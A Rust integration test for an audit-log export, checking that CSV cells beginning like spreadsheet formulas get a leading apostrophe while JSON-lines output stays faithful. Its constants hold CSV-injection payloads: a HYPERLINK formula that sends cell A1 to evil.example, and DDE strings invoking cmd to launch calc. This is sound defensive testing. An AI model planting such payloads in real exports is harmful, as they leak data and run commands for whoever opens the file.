//! CSV injection through the audit export: text that a tenant, a provider or a client
//! header put into the trail (an actor, a correlation id, a summary) and that starts like
//! a formula (`=`, `+`, `-`, `@`, tab, carriage return) comes out of the CSV export with a
//! leading `'`, so a spreadsheet shows it as text. The JSON-lines export keeps every
//! value exactly as stored.

use chrono::Utc;
use reqwest::{Method, StatusCode};
use serde_json::Value;
use syncledger_domain::merge::Fields;
use syncledger_domain::record::{Record, RecordEvent, Source};
use syncledger_domain::spreadsheet::FORMULA_TRIGGERS;
use syncledger_domain::Entity;
use syncledger_store::append::{append, NewEvent};
use syncledger_store::Metadata;
use syncledger_testkit::app::{on_both_backends, Backend, TestApp};

on_both_backends!(csv_cells_never_start_a_formula_and_jsonl_stays_faithful);

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
const ACTOR: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const CORRELATION: &str = "+1+cmd|' /C calc'!A0";
const CAUSATION: &str = "\t=1+1";
const SECOND_CORRELATION: &str = "\r=2+2";
/// Sent as `x-request-id`: the server accepts letters, digits and dashes there.
const REQUEST_ID: &str = "-2-1";

/// A record whose events carry hostile text where a spreadsheet would run it.
async fn hostile_record(app: &TestApp) -> anyhow::Result<()> {
    let id = uuid::Uuid::now_v7().to_string();
    let mut meta = Metadata::new(ACTOR, &app.workspace_id, CORRELATION);
    meta.causation_id = Some(CAUSATION.into());
    let created = RecordEvent::RecordCreated {
        record_id: id.clone(),
        workspace_id: app.workspace_id.clone(),
        entity: Entity::Contacts,
        at: Utc::now(),
    };
    let fields: Fields = [("email".to_string(), Some("-1+1@example.com".to_string()))].into();
    let changed = RecordEvent::FieldsChanged {
        fields,
        source: Source::App {
            actor: FORMULA.into(),
        },
        run_id: None,
        at: Utc::now(),
    };
    let second = Metadata::new(ACTOR, &app.workspace_id, SECOND_CORRELATION);
    append(
        &app.state.store.events,
        &[
            NewEvent::of::<Record>(&id, 1, &created, &meta)?,
            NewEvent::of::<Record>(&id, 2, &changed, &second)?,
        ],
    )
    .await?;
    Ok(())
}

async fn export(app: &TestApp, format: &str) -> anyhow::Result<String> {
    let resp = app
        .request(Method::GET, "/v1/audit/export", &app.admin)
        .query(&[("format", format)])
        .send()
        .await?;
    anyhow::ensure!(
        resp.status() == StatusCode::OK,
        "export {format}: {}",
        resp.status()
    );
    Ok(resp.text().await?)
}

async fn csv_cells_never_start_a_formula_and_jsonl_stays_faithful(
    backend: Backend,
) -> anyhow::Result<()> {
    let Some(app) = TestApp::spawn(backend).await? else {
        return Ok(());
    };
    hostile_record(&app).await?;
    let resp = app
        .request(Method::POST, "/v1/integrations", &app.admin)
        .header("x-request-id", REQUEST_ID)
        .json(&syncledger_testkit::app::integration_body("Billing"))
        .send()
        .await?;
    assert_eq!(resp.status(), StatusCode::CREATED);
    app.caught_up().await;
    let listed = app.list_all("/v1/audit", &app.admin, &[], 500).await?;

    let csv = export(&app, "csv").await?;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = reader.headers()?.iter().map(str::to_string).collect();
    let mut rows = Vec::new();
    for record in reader.records() {
        let record = record?;
        for cell in record.iter() {
            assert!(
                !cell.starts_with(FORMULA_TRIGGERS),
                "cell {cell:?} in {record:?}"
            );
        }
        let row: std::collections::BTreeMap<String, String> = header
            .iter()
            .cloned()
            .zip(record.iter().map(str::to_string))
            .collect();
        rows.push(row);
    }
    assert_eq!(rows.len(), listed.len());
    let quoted = |s: &str| format!("'{s}");
    let edit = rows
        .iter()
        .find(|r| r["action"] == "FieldsChanged")
        .ok_or_else(|| anyhow::anyhow!("no FieldsChanged row in {csv}"))?;
    assert_eq!(edit["actor"], quoted(ACTOR));
    assert_eq!(edit["correlation_id"], quoted(SECOND_CORRELATION));
    assert!(edit["summary"].starts_with(&quoted(FORMULA)), "{edit:?}");
    let created = rows
        .iter()
        .find(|r| r["action"] == "RecordCreated")
        .ok_or_else(|| anyhow::anyhow!("no RecordCreated row in {csv}"))?;
    assert_eq!(created["correlation_id"], quoted(CORRELATION));
    assert_eq!(created["causation_id"], quoted(CAUSATION));
    assert!(
        csv.contains(&quoted(REQUEST_ID)),
        "the client's request id is not quoted: {csv}"
    );

    // JSON lines: the very values stored, as the list shows them.
    let jsonl = export(&app, "jsonl").await?;
    let entries: Vec<Value> = jsonl
        .lines()
        .map(serde_json::from_str)
        .collect::<Result<_, _>>()?;
    assert_eq!(entries, listed);
    let edit = entries
        .iter()
        .find(|e| e["action"] == "FieldsChanged")
        .ok_or_else(|| anyhow::anyhow!("no FieldsChanged entry"))?;
    assert_eq!(edit["actor"], ACTOR);
    assert_eq!(edit["correlation_id"], SECOND_CORRELATION);
    assert!(edit["summary"]
        .as_str()
        .is_some_and(|s| s.starts_with(FORMULA)));
    assert!(jsonl.contains(&serde_json::to_string(CAUSATION)?));
    app.finish().await
}
